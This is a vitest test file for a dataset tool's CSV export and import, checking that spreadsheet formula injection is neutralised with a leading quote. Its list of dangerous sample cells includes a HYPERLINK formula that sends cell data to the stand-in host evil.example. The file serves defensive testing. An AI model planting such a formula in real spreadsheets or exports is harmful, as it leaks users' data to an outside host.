import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, recordRenderer } from "@/lib/dataset/publish/formats";
import type { DatasetRecord } from "@/lib/dataset/types";
import { type ExportRow, FORMATS } from "@/lib/exports/formats";
import { Pacer } from "@/lib/seeds/import/pacer";
import { parseCsv } from "@/lib/seeds/import/parse-csv";

// OWASP "CSV injection": a spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one) as
// a formula. Every CSV MedSeed writes prefixes such a cell with a single quote, which spreadsheets show
// as text; the CSV importer takes the quote off again, so an export imports as the text it came from.

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1 mg/kg",
  "-5 °C is too cold",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted once",
];

const exportRow = (over: Partial<ExportRow>): ExportRow => ({
  sourceKind: "OWN_EXPERIENCE",
  citation: "",
  citationUrl: "",
  licence: "internal",
  adapted: false,
  id: "s1",
  version: 1,
  status: "APPROVED",
  instruction: "Explain",
  input: "",
  output: "",
  topic: "Cardiology",
  view: "Patient",
  taskType: "Open Q&A",
  difficulty: 2,
  note: "",
  authorEmail: "a@b.c",
  createdAt: new Date(0),
  updatedAt: new Date(0),
  ...over,
});

const releaseRecord = (over: Partial<DatasetRecord>): DatasetRecord =>
  ({
    id: "task-1",
    jobId: "job-a",
    jobNumber: 7,
    seq: 1,
    instruction: "Explain",
    input: "",
    output: "Answer",
    taskType: "Open Q&A",
    topic: "Cardiology",
    view: "Patient",
    difficulty: 2,
    edited: false,
    ...over,
  }) as DatasetRecord;

const cells = (line: string) => parse(line, { record_delimiter: "\r\n" })[0] as string[];

describe("CSV cells a spreadsheet would run as formulas", () => {
  it("seed export CSV: each such cell starts with a single quote; others are unchanged", () => {
    for (const text of DANGEROUS) {
      const [instruction, input, output, , , , , note] = cells(
        FORMATS.csv.row(exportRow({ instruction: text, input: text, output: text, note: text }), 0),
      );
      for (const cell of [instruction, input, output, note])
        expect(cell, JSON.stringify(text)).toBe(`'${text}`);
    }
    const plain = cells(FORMATS.csv.row(exportRow({ instruction: "Explain 2-1 = 1", note: "a - b" }), 0));
    expect(plain[0]).toBe("Explain 2-1 = 1");
    expect(plain[6]).toBe("2");
  });

  it("release CSV: the same rule for every text column", () => {
    const renderer = recordRenderer("csv");
    for (const text of DANGEROUS) {
      const line = renderer.row(
        releaseRecord({ instruction: text, input: text, output: text, topic: text, view: text }),
        0,
      );
      const row = cells(line);
      expect(row.slice(0, 3)).toEqual([`'${text}`, `'${text}`, `'${text}`]);
      expect(row[CSV_COLUMNS.indexOf("topic")]).toBe(`'${text}`);
      expect(row[CSV_COLUMNS.indexOf("view")]).toBe(`'${text}`);
    }
  });

  it("the importer reads a neutralised cell back as the original text", async () => {
    const header = FORMATS.csv.head;
    const rows = DANGEROUS.map((text) =>
      FORMATS.csv.row(exportRow({ instruction: `Task ${text}`, input: text, note: text }), 0),
    ).join("\r\n");
    const parsed = await parseCsv(`${header}${rows}\r\n`, new Pacer());
    expect(parsed.errors).toEqual([]);
    // The importer folds CR line ends into LF (as it always has), so a leading CR comes back as LF.
    const expected = DANGEROUS.map((t) => t.replace(/\r/g, "\n"));
    expect(parsed.records.map((r) => (r.value as Record<string, string>).input)).toEqual(expected);
    expect(parsed.records.map((r) => (r.value as Record<string, string>).note)).toEqual(expected);
  });
});
